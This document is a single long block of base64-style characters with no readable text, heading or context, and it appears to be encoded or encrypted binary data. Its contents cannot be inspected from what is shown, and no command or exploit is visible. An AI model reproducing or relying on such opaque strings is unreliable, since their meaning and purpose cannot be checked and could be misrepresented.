nbjxcqjJFC0lKykrdTX2X9pGl3W+hj8792HbgZl35BJrtGOLoZp+kYoJJ2eXQQNV+Ty0QRq4VogrrWshaHSF9DlDZZKGi3LwjwOLA14prHmkc/xpR/z+DWwthrxaZ9VcAWGe2knoqLIUJdI+C79MRSUEmDPdQwmVuobv6LcRuVJfcdwGXjHMT/8Ys15G8yjtWhw/de3YGPHt0jdipsyAkgVPNpN9ds6Ans38ZUfWVSvuKf3/Z1oqvu8UPKAl2ahcH+LV+tpdvphCv+WPYp1Cq26ba/O+wcrGW1YNTWcIozoqZlO904wviPQmH+O2GPH/lvFERdWCrqDGWhDiPF1gpVaWdZAgTf+QiTYBBThxRiOBv9URA1DhugZ/i/nx1pMnzNF0B8kieLbKww4iB95k0DFr2OVbtuTuW1+C+eZa3ey1iyKWa5J3i+ICd5inmekaYitXY+86YPzsq0HgQlN6D1kITX74EAvHDuBu+6RVJf8BCLTtI8FWyymKOxyAYwEsib/73UhMrh8lf5UBDKMpoOldmxYj8Lnf3jqNBHFwlxo5hfC604GkCjCf9jg1EZR4axE1ANsnvL6cHSFT1b1rMBN51IPpq2tgujfHzw2qUIJDmwVGTLYCBV0Q/5gSPnZgBqsxRBezdDxGkoZzzZ110XA0UGfEyad/CIp/Sljj9+IOmLZPerfncPATWhXHlyeGc6ts4BVcDApyG3HwfhwPncdgK1wF6xAXb3UpS20cfeMlTOok1ZKAwcHauXHKSCwbVyHQoL/h41rYAAQtJj+qgRrMhWt4YRQUTL8W/vUxHaoAEMVo94eva4ETUAGi49Ouc0eajrR/FtSThbykyBM9n9XCc5e96W5dHOoNOHzoKn2gfVp4imkA0xAsnAdqv5E6oZNAxsfO60DMf4jQFRs9Iqqopr2e+pzOcRWyjaf4tBwdGFEDT3513WuN/oGM6KY2UDjcmBqLg4ERkWpG+5GzGdQGQVNXDNWK9pzNm6MelvuKJMhyCQ5467H07KuE5wnKSS6wVnzU1kyXJs3XsLSjRcefFa9/LFLBvJv7r9jQimzXJuVueuKSAkxxvmWElEb2pkL+wU8MTa2QUcI6uS5hr7PQjaZ2B7djK9p3L13jMuIvJlH0WjAAEcYPJItRwuZrr69Vj9hztG4cDBnh5yqxKN47D2tb/aApJKo9WaRQV0JYKfomLpugbsSfEd4Rn1QfZ7sQEBpS2A6lcan1Bp4Fbcy5kN1OBFCsONTdgfW/J+cBtXCk2dtOFg6pLQL3uWAwktl5uXhvZwhLWv+RcIjPdTop4ZP2SWuC+3CWrKenyNG3fQFA/VcTYD7VtakQlZwjvjARt0vv+mA2/HsMkDAnN7gyYucR73C8qbN0M0opm2LWeN+ITz1QXr21oEulrly3prQevpdmq965rWfbemRnZg674uV1qk9zzLbvQpiOQV6WLeARDdi2kf2PWcTffpeZScieBnbiryNVV+S00bM99eeSdy4hm4Ib+MTpdASrZE7btnWTXoblq0PtpwwdA0roFUOY8Bi/FrOU/bu7eVc+cinHLc5STaEwAeEisaleIEe+hlQO7k33c8os+nSavdDAr929exBPkeoQ6bUKvqeUEHUs7wJs0D4eyezcIAYCqakV8gon9dPGRerlZcjbiFX4VcAvX4ktliQBjvmOab0yl91k1n9xwWHStoeGdxTJm1sggplnas85w/GmTBxa4+sh7ZW3t6UFNzmhutCCkAPMN3jpfdUJpkDOPkvAC6lKRnQLacFP8WqoBTtoVRbzK0Rp/oisQmaF8bUcBO63fOBcefwH6CeuA1aZ/FHN4oE8KW121l1AAZDAJtIxQ8fnJbumCz7Gx3HzdEOjf9MBEroKE1181vm1uiyae+uqPyQC0blnN+kpYEA4j4YMKJ38xULfYiAXgT/xC4L+czlKbkJ7FRu76GNmlfX9JT03jnF3FW+vjC4MSu+u4Un5FXkwnmyifxoDQTPMwEsazCREO6CcbDGWiWj+iIHCnHZM18RjD0TNznI+ZctuRK6jhlS7DY4srzh6oeT4e6AolO+MGZDBc5V+eFyrcOkV3hhmCHpYObtIJOHuYsRktSymIsyB4N18+V4wvTcvCw8AWM1YV33lPwAnoUvZC/LRqEVi5G4QOBKH+7QLNeb2J3yeK2CBQpT4+iWGP/yFXsWlr4v3+Fn756q5i8ayS0HdM2L3Wc3ngn6hXCzh5SM7MeVBZtjKTzTPDiDUtZBzUwLW/z1Nc1WABFgPe67KxITZZsx2H6RZJCfVTAGmvd6buQVI1hJmn7xF1msB6zEOKzO1bo5p0elfbWgeDRIGaJ0zhYKyWwb3VQAYe1eCyamoM79nOqImNbOeenHRDW6LzMapoDb9N3t/lYJLNmKQyxbo3+SqipWMIBMu0TcOVlrrqTYK7nbUkhBwqpaQNTqJ619clJO1R8X0pDgyb7/pRhedNaSm1eDgUAJyUyTUSwjwWz4TF7ugwb/FtR3g3ZVp6YvquJWtf6Y7DqNUvXkOTRAt4XO/kmK/SLWz8rJhMM+JOhsRFxGkyH3WPOLu+vWKeCGpQDnHR4L3Vu6tp9/EPPcAFYhpZ194Rd9Mv6VGHZdNob59qR6AoFTAMim6IMrPbf9vlJR5WBItlqx/8acIFnZax+/zB+WsrxX47CD5AxbRbMVhzgl9W/4UmerfKU1v448A35/Wsvyup376cJl3omheOqXvqhRlC4t58N8ORVZiXiQ56R3+NivIJ93PGFI8PDZFEG8eqnPitUE1pRQCwHShnkVcyz30NM7HhtTI5Ee4NayINI6a6tISeo354hFPBWEWRFJZ8tDhyAHW1ZXpQMk59mX1Wprl+tujoupRLQ8FprBmyOpyX8BqSGhfi3YNxDCuPdvcRwDHdecwfePBaOrS1Fpkp0YL5ZGxk+sigDmgTuncS4ltj/LY3/WheiesqNKV1FWpDsFR/quoBtwijzB1rf3CEYE9qs8X3L+lmQPmpn6NBKuxuBGyG3+FR9LHC/2Mg2Zmpndn52R80wMng1FAgOznE7aqinYo4D7MTK2x56w6B/ay3f+lPHyL8MfFTdw3JF2JFldh3oBVUvR30euYU2IvZjpyxgOvmQ8PD7TKuemPAQ9wJeQ6riE8S5Wcmh+NKIdFPqWwUHOwbMDZuPpYXjw4dyeEK34uxD290fMk8v2sd21dR8ZNCD5uTPhN/c/MLF5YCkM7jMpJV1efLMDJ8yL+ZRn902nJ/ykklhYtUqILbSA1/MRXv8n+HITd/P+RS5f1oGBK80H4eTmqboHUG1RiYYOgchfLPVkdJkLfKNMCumKv8fv1psU5CVcA5Y+FZxEV/LGuiAmlJ0B2Oa47rSNt/MsbOILu9fG06YPNXKv0XC0Sf9XG1L+C564Iw+S2MByQSQBYNJL+Tkpz8e+9YwsrK/qdgLDxYzNbwkf+TU/gQ1A/ErJTBfAeyi+sRdcH4iQPNBz4Pvz6UwILMWBwqV6zupaNFxR055aHv/wY8hZqCJr6OkpdIB6sUeQYexEf3pR0gNzYH7AfS8SyVUDBJF97jPyWfp6UoId1dSZAGFUbFoPKiC59nMk1u8vc3c1rh65ZtS4B0fkZPsn+mlS1nmntYHHWrSr+ZRO9vF8HnzK3GNS40D7f9jB4bX5Vhi5pjvhP7wJlGmVpVYkSRPxzWDm3tkb+TFAyyIqu1FuzMLzPU57hL244EmGjJTvaVhqoax1tyWgHQG05P/I+8U9pnmGJZL3mBB2OWjvTgAdrJpcbEw3IS4ki1xrGGB9+kCLOrugrIZknFRBvs2tubEdWNACby71qHTeHa6Q9ZgVNQQbxuIQQqT5svoc6bG8TEPOF4QW8AWRXx5KLWwPiQ0VRLy/Xi5eR5duRlVwAsO0+PV0T6x5Apsro07bNQY6jnigD6d11kk0PvtUfOYna14SRPjfVKH5631vZcteYKQvL75MJj+gKrfA+ydqUXQwqyJfFDf2r/xEqfJmefD0ly4h0OkbbJa0obvTTzt1hf4DfdX+N0VVb9PDvs44oMF9sHpDkuH+FAYI2AOVOFaoI1OiB6JvhQr4hWeZlNn6u5LO3J4KM13wl3AcMhrGUTqWyzS+8OWmq/H4NWBEnv6ULdRKvMubuANycnu6iLwkLFR+7qvb/O21Q4WGCBNaoNrDCM9bL64Al/JVPgaj2+kvQofhz2GxEQkUUud6fJbXYd6IDOQlvV4bnb8jhX4eFh0Uxyi8PGq8iDmTE2p4+bes4gKR4wc8dAnISf5R4wB2IzEJICx2/o1yL65XY8d1voVevnrTx+Vk6ZPRnMeylwDEc/+vCuMHouTXrbkKzMvmbN7rfJWR6EUkjyFz5RStbXaZ97bFIccwzg1ps2HcuNv2y/kGCGAKMo6fJcSnHeKEAcX9QVdwF4yIrOp7cpckwMnGLkLi+pjp7OQHXyui/i//Krkl6WY7AnZpB5ZztyLZtRti8mB6SX2kLamz5owkr1vzwD0Ca8plBP9uhWdrG4w2zCyT8U1mEzxZWzbpvnnl8WwakYNVZJw+ElulMb2DsE4jACxnsLB1shdPxeh4I6pzad9kxCkfp+CQWafQitNWeZ2O+FNrMvzgXOX64YECbWWlkZxuovu+yLF3O4JA+FUWr3rUdVyaXohzGVYWlAzM2caFPS6kiV7Ov0u073h2DwQM/F36HXnC34LC9eBGUJGtasOSHPJe7/eBSAr4tfnsMlYrtVN7goMUraB3JWCXNYZwM55QW06VaC0Fx4D2CZoEaPr0NHrIbJCqB/dwE9l5Zca6ES0vFSKi22kR09xY7uIXQeTSYQzmwltldZqCutSADJBr/pvJcdC+MykhLLShpyl/mte+UdvVl30OkXpS/Wfb+85lgGtom/O6l7Nrgrz8H9h8TFxWoSeiV6yzkdPbXHDx5TcciU0mDo9EYkZDBZxpwCcxee2A7jlN+LeBm6IbBlBfUE7CxeHHtf1zFxPHXhCJk2juklfthOvzrqGr6WknrSdUEb0Iio37ZhhAdnCZfbWyZWIj83D8vBVcWgPzQV7WrM3K4XVm10F3bMIsrmK9nd+b/u73OzBkB1F26Y5epBM3kFY25v36R92wHWgbk5pf9NqGpOdhyeI5NShEE1FaB3ptwIYp1RDAzmDor0YWokTyhMge876pXkAlbq5FTRl9SiKHIWoKY+OsdxeCb3PkhICaQP3W0gVlDLDZEMUEAFHrxtEwmnCumguTqGyXjhgaKoLRQ149iXW3m/Noy+TFGgngLtd3dH/tGwyCVxyg/hVApfvUdVUFWaxgBR7l7eV5ZoXHf1+0gtJPyUiI940z55Yh6tBxEPuQVxI5NfDtLGMSZLEYWuYzTJAcGayLLHh+JDwW23nQvSe5ymCxb7nZJQNLAlT8JnOvGeQ3OY9O7PS9Z8UPa3XELl9dAkUANfD4zvVlxxjNRyN8BHNPIytCUgo3LzvtzDkOpfBhhJpG5rlBM3T/5ktMH+36J+ofc9iH0rcc+VajeyDKkXd6TpCqEu1gHqEb9ZY7f8fAAjnESVsehbzm8QGtH2xkzvVGLbH8TMJmH/qLyftSKObdf98QyOB+EJz1UcR8TaIRYvC02qySSgx+6nlvirnIg2aNLeoyokPiONKxw3vRqFfB/txQeY+G6gpM6D7nF3roiM55MRs/0WQoB8tqQZQyewNApCPVVlgFM7GLMJum02qVDn7fgZRqHue9YvV0kmNkiiFkAPLkykG0/dlDGhLNhgGQyV27XEskyGyS/lt0iiNJw8nZ0dWXxR1awrE10K6+uHlE6Miza+AoG9e/Stx5YUtjGL2VW3h5s4dJ1ZoB0SXh/zsV2lS09W9CJAfzCvK+yWGJdNjfuiJD4VDjv9ERz2gXgzhrrgBNTO2C1cVmeGLD5wYgfCYA0Q2Rio2VRHHXmKVIUu4jnRTnlffY0osPfXaR0YO/wWew0oF+XuswM9kou1g+dPd4rhbGDLjVp/PM6o88qKq+4XkZjxZgnk5+ZuOYBNg5aasZiYbuTFrM0Ear51qV6BaysrWGhcx0z1xivYUUgzFyEmsgpnZ83D7UscZrEM+Jn/ejeGwiNlo3DM3Kag5I3eDgIisbsPBQ5vqYr+9362W+Kfl2PmXYoOH99zJhmitL7phMoyATFo70ODCM7/O8M0FjTKQRprBWxpe2KHOCxp5yUmupG6DQK+1lzAP4p3ry8a1WIh/OH+N7NkqOpuuyj67jKdd0PRssNCvJhxVzb2ydfJwwfpRb5zRetTHl/Ph1UXw0wfj/CMx2bYXUKOwqL1oGblTM+ts2fZeFAudjanzxkH0iKWTKbhlRxba6+jwvDkTFtfqkgCHohdwnjrRRAEvtUObRbTz/47t3YwJcgdhcbDYcb3ya3e+aQQR279Lo+xdYUVAaRKmy+UhdXMzQgw4vpNcAYNY+fW/zon+aIX6Tc3BdUaXZGO/gwY6ou0Efi7obAkV++7pWUICDvlZfyEIZCBL1qCGcFt8+7Kilb2zM6a+ia5EJFzA07pFiSZ7xmaqsyP3bDxs+vMfzU3aXRPGeJaIQAv4JIRqD+mgJ/a6EVEkzcwitUNSgCQME6ZFyCVGs+s6q+8Kzi6D89LHcML0QEzafI4b4uf8JoFxUOAYfIhHqJYzFKe61tONhQI+04tnsU2LUorUgZuJZCmRNmD6WOTr1erfB0jRdfFcX6glY0vjx81JnutKPi047R+cHqXpWlhK6HJ4ImAfbYJQYluGZrPVw9ueqHjkgrvG1PrwReCn2O5uMmcpvsa4pqvXwRuREBubFnXotZn50XD0sjIfyZoQy7DMwaV+sBjx207XdrSYqEOj6IwV1VtRYHgbDJRtdMrurCPeXcG9DglfVkZ6D9e6TrNGFubhs6ObD/xwk8zNAhkyL4Y1H+A064D2eQED1mtwY74BcyFz7JcWS0dTtZxEy5YNBSJ4obuLu5vAKeyRqbUwinN9+OOcHgQct1m49Dh/SOKoQ8F8ToKnPYyPyhfrdi10RI2Vd7y177YF33Tija/h7asoT447+s7JpTZCRuZsYjtd1vvQ6sAE7MWcNkgUF//bcTGxXsV3vyIVx2hgC6PpFxvi/RTuDu5ypmiCX1nPErwHs73s57o99CuE1Rj1f4s6wki+DuVOobFnGaq54yWxMrg0K7W62LF48t7wE/j+lHe78bLq0tEtLwlkf52FUwiVgXFzC7tYV0Nxf2I3CAeLyJ/XTaqHf4YNuB+O3wKZ4O0obewX/8YKXZ8Ju1pVA0t7nG4Uh5QHaQ5C3vkiiujHXVoSvgrL8IruIsn1+6fKKhMe8/FIdBS4TFhlQ9+ouVwH5s5+zZZHIegYFAQYFEOmMQ8Ma//FCdYd2we9ZcFdgrP7OPIQerY6uGSGHgKCS05n25Lhfkn5Z33iN5hzCwzxV6W1X4nWc2r2R9pEArZvaAZvGqCOnQzgwqh9A4MzOAsNfUnIz++5LxQe31Ymr9uv9SKYxMDwg2KfZn1gdfr+0E9MJb8h1hXSjSjy/lCKHN5Ngr4mSzh7eCLdZU9UlAAMDDK/cU6d0oaUav6w3bHB5BHFf7ZWCqqUTiyQjKLy9pXXTuzLF7QA4fdNvuR96GK1NHdM8O4HeCBOBlW1hECmNM2+muqlS5qlMM+BuYHpPDlDAWu2Jan8Q9CqEWdPmwQAXf11EKP+oSl5ReOuFcEYtM+7hQ650yPCvMLj9VMjPtciYm32Q1O4YuaZKbpNdP1cR/E1VT6vqudJJGm3a2mN/qiU8i5iGEs7ybkBXz4SKvdHZlePO42NpieQGWAOLi2rikFqMrk2W5XtUgYJCVVC0PxRYWdzqNSvc0IwlDIpMBRsrfVaEieGjJK0vFq9y9lpEtTjw4jjBj5iMzftoxfBq/cG4Vw8MurMt8Cg+3vbgCCAlj2WsTnO53295sDaXDjveLqlEY+NBatUR7p+IBfnwPhaFA0SjeytlX3xK5NCjSyNzT5QuJAuYqbarLU9/898VjgXxReixSffIbjrw5hJAR20Uv3hVpAQhfrGtFesCJb9XffZSrjLUC09sCU3FdvYPFeBUs+9SbGVq9tZTlDHCkQ7INBEHFT+TQP9xREfVqDHjINlM3WnPPErKiruhFbsErHQ9c1CLFahUKtXCNCPDqT+SW1axKnYDHtkIjlL3VqNaQrBM6ZMhykTAtJYkmHIbBdVO2VlSSDFUeUCciFWL9YoH4qJQiReZmHL2awf0rczaVdL5ysC8FNOS2t7JmERfBoolM1jlGOlL3kGmb1+Lxh3BG7aVoL3hNtehTVfPmL51XnS2aL0vrOUbnjvOhwu9f+B/5RuNENSkqfmGw64aVuvpTyg3dw4tgxUMxaI7cjx3ydmuE4tz+YGRl+3k2U7V1mE7XcqfrjlQobd0mPzeRNWtgjhDAkYRXZV3gBxFpAc7mFI5CwtBOW3uZiORSMaE6buN+FBNJkr1tF0sr9v1YHXnbjPCydPSgQ9xIPwiOTkkYr/gPlVq7oQeMTELq5+2D/KSiykK5HfG4uri7ldBNlAyWl46NMEgxKtT099m3TKZq2VzzTGVMEDCcugkbJWGE/Hkz7E5cYbAABm9YBZ4qYYc1Ht0Q0NBaU+20DoGvSJBAUp2pcR9/kuZAga9IHrvWId4pHv2NtpXGrjAM83H52+cSkXFC9wBTHc4H0YonM27m9vd3F5kX/9OH43RaHIh6gmvhRimTFcrk3XpUWMcqicIDzO22ENdpIFgFtr4ldnU9tBfi+VzL2o2SrFhVRh3bJHYWYAk+EJ5IyM9zrlMofi5xVnORtB9d8evmASEU5r7xf4JX7+Ntj0+/ZQuuQBZ2N3D5WAI+RRYA1q6Vcnc8HD++QkNh/TmrCTZPsxjUSv7H3Tp9oUnwhYs5vpMKJYA1/WX4bJhTmkuan+AnG/e8crvT0hMu0IUiy7FmeWl63NQ+CvF6TnRM/g7Ua7r7aQaDjd5GHdHrhoCPL8AfpstIRDqZ/2ePcopxD9A1bbL0pLVstmUUrtydfpJlVniiRZc3GIcJPLnr7/R+QzxaY11y/swc6oDO/YTYEXGwDuTbudczNEJE9O31NZHX74nOGLe4LMkkL+CixICvW5O9tPZsRc9TjSkYD/W/iH71ImtBUUNABbOFS6VQqPK/WpAvDGyvjRNZ//obS/Q0/ALGXm0wbTN09W6rhvr1qwcPR39fFeFbWmSZ8k3HRjx9WFQwK91W1Q0eAGeVrq7xJGuQw3nZlredlyLi/hjO9abHIM3w9yTk2Va8OPI19jV32mVdQSJSxjXu4C7pASatxnPHV4/+7QG7Ra5WeGMsMO5nBfkx7NgM+PAxsPBB14ZMfiKsrIwmX0JG8A3yqiQu2v3z37cFQxKCmIEWHQpgf4NkOxuZupXFgjVVamc+oN6cypcSIu/0LL7otPije/dCN50D+dSu6BHxCaCfUsxir7UgpgLbeLzsI/qyx0i4UDtt0lkboU1Dla0WCMYGEM9YzIFn05ZBpGw0ZFO9TZkCmDteWx0hqCRujpdXnzaUnRNWrf0J/RlrlQ2NzkwsoA/w01UmYZnBqAV/05ByXuBe+PR/65/Y12hiDqcLQuXBbb0FbXBn28QfRWLQRU2N68O1GZLwS+uWbK3TPCe8kzsUOMuSBibvr+Vatw+nkuwtxGd3LhAtKepYNkYorEFBDXE2p7o3ysiA2wQ0kWEjYmmtq4DJRbYlEMUSKwNI5SeKZ1inh1vJD/gQpCdyqy1X9kGQxZvm+NqXjgmDQfqgZaPv8gH/UA57A4VHpO+/CxAP/+9jeRfqs/4msa19DdzvROaj6F6OgXjThbNUoUZtCpIjNEKGKERlGBa38lb78U7NBoOMwFc7xWoFxA/uE2raOFafHsIySGykEDD+8vovz/vmG/lCx72MyPg92VyFaEQCcVT5T7zztnDAsZh++sM2zWPSiVSEvylQAAeaIr23uZgQBe2MiZF+O6QkX2dKDLdPJxzVJkzT4a5be8801LSx45V7Ex4Sn+1qySr5wcxzFlbLrzj8KXRhlkIAybKvnGoBaqDf1TB5p+F6PV6UXap7/nXn9kP4n+SbcdP/1iBAyXkhON4ot4UFvNKOZ1SiWV+thALc6iiOJGGoZfYgZ9/oV+7i1895eL7V3Ko1WDNgvHtX7n3Fmoq7yLB/T0IzuDVUBWtbnfGc/eaB/0YVLdm0Bz06f46Qs5hRB7nDkr2z1kTDTyODqZPtwM8ia/K7to2sdYtpyQxEZ4if89UGB0AunYWpUZu1a5cZiaSPOwd63yih3hqDtsEsinN/Ynb04QnpuLop8PF+xHGDcPpyYDSXEJPmqR8Ij7fK07Jak2ZbscVpxF5DI7wxN4zN4x+dObU4iq1u/hw+5swjR+vgxkDVifUUZ5pT20ru4WRwj8ixtUiXOdvMmoyU8yuIHEpIZ8i8uEa5AET+yErd5bj4QN5qOrux/drQNps4x4xlcl9HCbZ5VWBMge8s4m/ZtBNIzpN6r90ADgARnjQyRYUhemLox4ODjMUZkhzQARFW5Xoks3vmV6cIOaMYlZQJXfuc7uLnGSzBAMPBZGdXlNLR4A5xAslDVhh5a3UyU5LtE+VaEdMVcB5Hm9No3wapfWuKl+SFb8Lqcdvx69Y+fpjGtSJcdxPOw/2yI1IK/BNY3D0mHUIEA5r91/Knx+MyBPwj5s/TzKAn7hGgd8Pxi3oPZyBQWjh5dJMC0wWaXilwOgnP5lA2Wj7aZ5bmm9/3GVB2s88yBzgDWqQk9D0QoDH0em6TdgYv6TDJSyuiGZ+7JMJ7ZZ4aUnwHcRubVpJGIPOdu/CV9a6GJQdVALH6OM1uwOUiLnf1RiMfxOsCHekgkrr1AskY0R9LcltT5LHIw1wWX9BDAWllLkYUbqOXcKaWRNHE8rF48kyT1kYs2VPNWq2W5ykotRC7Mz4ro6B8qVcMa1jgzz21mWns7vuA46PHUI2l3jGuoXsSkvfG6SnHb9L0CnFhi4V4z0mZkQP8blbyP5KUpk+plFe4vy3m7X+MjIk8t+8FeZkLUM1BbXwtsyp5k8OtKd5lcSKiuqG92ElNVSrrkwRFHc+T5cU2sXn1QVgxBX5ii1d0xITzwRtP5N/YM6AXAvr57WIBYMEkP84s1Nrl0pTKTi7c+7thjyrwBYLJseABE+DpHYk+MFHuYouOL+s67sJ+pTPFNFGvtPqs2yfohTdt+u07yN1yZWdGZx594Z2ekwyytErx5t4xfCOPJZHSIjb+3J/vSHjmG5wBZSdSrVGgQkFpO3UXKosq1a6fh5Z9JgbHclW6DWi1XtPWwXjCiyGrveNNpJISJtXeb2tFUseNa5B4XY+xwYhIenhvF0B0/ItIxxUUa1s1WakEv6yPD6xjFBOAJY1roycs2QFTHq54W4riALmyiE83Ab7sChikkmVFTnm8p7hRja5EtCl9iPSWEusMIsrZnGnBBg2gLENN4K9+ARY31UnwdHQzVEDvEQTsvf4L6emh3DEHp4aJn46XY+b0u6oUtw/r+TKv1iBF3OMe1LlCGqnc7aXMnWb8GZPAcLNiWPkDGSn1UsL+HSPX8NAadXbV0fLuqzmnJqFsqGsn4GVEj7gOrE40osqLHns4tRAdFtIuJ0KIQt/2woKaELwoXoaKLvcOf60WNlHotPOg5DYKu+OPVCZzlGPNDp27nP+r/jb/BQCfraAHfN1opoJJivJtHTaGGLigttuT4zoeUeKZLwrI9Tg1fpyI2UViz9QjXSRkTl4PvBgQxIXVTzX0ouovwmAcA5lRt71THU83619Zdl17zPolnnn3SSdcRXVaYydAr+5P/5SjFcfzAlEcYe/RvgKsyzRMFE6y67dWAQ8FuXmVMTbab9m9JqYwjcAt0SrUi8jmU0Z7KjwBKNGoVBE67+LrkCnwOkMKrKBsotplhcVu2sGI42axuMx/Gehqltl36QSOGJPk8IWsdl9Up9wrR4YUyj45FXE2n/gQvBZzUMiBX9nhtbrsfb3uuLJH1ErkUOS87u1UnKlcvtLHkALFOOGreWwPCtiYxHlqrlOoVw31wEOkSbBR1HfHIoaMfIRuTeELadvAp++Y9mKc2lHhc7F2mx2j8w3e1B4Vk1Z8ikbH55KMfhzqxbImcKMXAv1327NAbT7E9FR2oBxtILiJySYLbxo7kXn8WTH4VLrOqCiT1QL4Bl3GBdw05r1AYibz5WAx1mx/6DSJvJYSYUZ4YW6YezSUr4wp0IJZQPtXI2MILh6VHOGEseFNnApycpKy/3F+8GYDScwbtzKNzlWGua1TMTol/ZyroOv+fD879WLwjnlL8HBZBJJI1wRRFuB8CUED4OtZc1ao/Y6ODZ/orCAr67qCwkDdLavElmTR+QvBsIVQTces+kbTumvpGAmdcjAEYh+PW4CTzxVzWhnCojtykwn6E921foNaznX9k5liTvEz8reKvXbe46Ksu1Lgs0YwlzrE0Er9453hWlIdEVKxSFaJdL2rYOYyW09+LbVf6df//UUMQQfaZeF1tVeTV+g+h89B0P9yfPEZIdgdwWwjrIGk6EGzPEjVR7TXbYUWyB4zDgvtwvfDCmuEHbm1HLuD2/3bzfCRCP9VE/nfr8Mj6Rt61VA9pXO7pMGtjb3L1ThvSFsLy+6l3nzdWGgRSNWHOntudE7AlSy7oEMNamITdVzy8+RuyEAZYKJFExI42x443aearaaIkVJ9LjIXDVzvFZdFY2lFMb6z54dp4xp9xINPcA5jVL3nIB6qemiqpwNsT8IPrxsPt4h+ipS5sTrj/9FSfff7OG2wj6AZxfx4iHmVcXKA0djL41VpVQi6mpg6peZVoAD80KmwU7O2DGAlFitiHZasOxb/U82jmE29ynm46vOI+zpkPvLu5QgOlAHI2dHlGRClMmmmg02KbxfcimLj8+z91irrTVF/3/UCmnYQ2NzaPdqs4trTn/OAnG6gAMkvkXHZkvTCNao7GmMABSqMUraA3Tr6zHItntTMl9DM2mhv/LE3ZeTehMl0ANcnbHHO54J4TZW0EwoIVeP8fWzJ/xa+ZU8+UP9Rgny1P+hApp8hb4XAdehmT4Tck4oqi9C9XPrCcvibm6Itcd0rxM6kCmuaX/Pe/4zcdJUkHlt6mBUZQTTm24isahIY+mlgmZmSzeL+X2hohMZIwW2raHtfltJmmE5/w3bavWmdc5R+n/Z4Kp8VAZhJ9/Q1kzUJwt0RUZtVRcQNIq+cA0F4pC3GWU58BMMy/trJUbtoO56QO9CvrIIdpOq32Vt3QNiwqPzKLS40e3vwUQw9WOb4e7Hdiznuj99irLQYkkL7aTiSSLAijABz1FlmZ9E53Bgii8cgpz1HX33+1nbsPzx1PSq+7yOJjDIIAjdVR06IV0WU8GLTpnnrQng1JD1GCfoa6k5bSHhYeRMzWK3iEpByyITLBHNNgsshmcfO2H9kNdTcq03H8lUkK7eglxRwOcmd4M3n8g5VFGyXSnzr+T8nJfmgoPxlepT5H75F95RV00OqP0QbVgxW77VdEySQwWjkYA83fh9l9QCAQbdUZu+z8zk5dI24GJflG3vcEFniS79dUi78IhtXhJkgoCgG3HzVyWra0Tg/PN4x7ffYk4uWVSQw/guuai/zeSh+PYbpY964CXUNJtAjHisxdR0BaB22F0CHK+xxUHd7qHdpeBRudQe9eVJ4fNfM65WTxnfAjd+ItYX6StAzAJAAM+ZrBc5rMeBbXYJ63QXFdcP1ajxCrL1PzIzsr3k00Vl56tta5nAf3Xp45ObJC943ALdgVOIoaEsqq6DP/0vuAq7mxkBnJh87qE+d6f1yXMad/CWyeKl+hF7Bho8dkaqGMiW2/8azTyRPy9SUNltLMBWNilqpgWBdCMTFC916jD60PO8ATJRw9gykU8vCpUkCJiXxjfVVvQP743YkNtq0UdFHcvlNPPDjkOrIsWT1uiqbY4l/wB/e30QqNi7GLA0OZvvE20iQ3NcDCr35OuQgaEDTGpvTSdWxai/0HjPsL7vD5o3QM4T6wL9pJ3lKS0aLch3sBfPZ3ebxtzDjGaPjI0u4xW2ArGukaeFJOL5iic6FfwkpnP2ck1r+6giyjdxUss0RaST1RCXDjxuNN/O4fVhfswcpFly4pXL5IJ/WpURzrgCMP7ESD+s1hYt0OfEYtjk39bgkToL3vxLd+qnAoNG7r06LtpI4PfNwPOxTbyc2k5x9u/PDRRc+ESJYU8+AeyB8VagK2ZbxTS205s5RQGKgo8nKM1ZYgf1lxGn5aqJrGyyEIyT1lGBTaxFoqnwUP2vy3g6uc8i93iL0V0D/YVQc7NVx5/TRTjqUTSCn03LjrTkEjf2bZ94LmvrIg/gVLCORG9739eZ5+cRY+rNreKFvfKX+bTV/KdkH1Dm3k/hYLqfpr+CAgtIJ9v+3FoGrVigqcv/MsESxuM5FjL+NrfhvTpzq07ZRBLCSh0ac/jpZaff65IYzEeS0ih55H1krcfOd9O/32HMxLF6hCeF8K8rEPjcHedxV2brEtipvWYRLiQF0GqH1hzYuMr3DBETRwBJNN9LvI1lxIlIwu9n9YvfI6HfVR5HUqrH3FrNGQx43p3AnTq+ffe6l5sBuhrUkOWWwQZnMV2L1Kg88rxlTcWy0JJtyX/KDplCdtLTJAWko+rQ4m4A+S4ehNUVxiLFbIzGEkitiaLNPPTBO4JrGH/9ExHK/UZzVrKAyZNh6i5phn9Yb7KUvZHWuNQMddpYdmOmKladivLQq+VveSs+CC2Jdm1jMLzOM6BJbbmI2jo86uDP4OKMloxCc58OPmt6SMJr5E6QApxPJPS7lcTXM/8aKFWmlkOtrLqI0nEfzVUmw0bZ6q85dQ9MjNyDaZyavwUeXX9AmhvvxfH6/oSFutS7PUv9GM+uHbFn/rNIee1uALXg6ei5YF9sR0re+6oVtq/fJfaGBSKCtrYYG+EwFfi5qrDlIydh9raA2Y229G2Z1tc3n7plNB654uOb5/B3hAdzEP8/g1rZUPFXRtEeell8sE9DQ5WD1K/NT7Vs4XvFJuBMVRcBwwpdxw6hMeGZQAKRdrcUY0kkQCJIJ6pmI40MFpi2OZb7r5f2lEltkyn44OZDk8JwVPd4UGidHn1jBc3BoN4xfsQPtHCnuYBSSGB4pEO8Is+SyB8qACCEkUz2tVyYqlHbG+4Z2fgLG33AVc+a4EM4TtrP4TZSdrPWmoMuFYGtAiaGWY0MVKNlFX31GqmplgkeffdN1VT3Rhj3LS/Nb7Trg1QBp6ea9CCaYl5Zz26yrrf0ItrWMPYm+l5NAtIpQbaA/tv2BYc3/u7NIgK+C4dmwt+iPk2BAH/a2nXVJEI19eWJaJEcQsD4Yn65+trZ+dN7gPUzZu1Yic/TtXnrnbJcs9HNf+9IUS82tHrv0pdNLKwdeDWFGYQ6VMAgg6b/9QblEjt20z7OxuuxuQFs0ofIdNMdbf5wXUApc8qR+UrvXe78K4bNFmU6h5jKm8XWAhTdUTGMldui86pIRNHdEf82MA5U5qaWEge7MoNkvv8FgXa7dDQ6kUCx7pxNHV/IISpj6+q1EqPCobAwXaLz7lrgJIy/nwgMunkMtMegLiLSkQLROjmzRsJ30TvIZvt5jiUhbbWRTW08J2J/ZGUhfFYCnJPl/rBookjNMkzA+9nLkBLUw5XLoo1fq/FAY1wN4WeQDqt+TbIMU+gPNJBfek02VsEGfyFfO0C8KOlzd6yqANp5lJek8+C6u7VqkghBL5rKTu4fwIMJcnrN12ouAEJ4R2ryuGsL2pZtTCEKJR+qkkuSSYxSZQgjQu9dkGA3FgchUfqAolhiyFVKUvW2NjWWc436j2wIdzScEj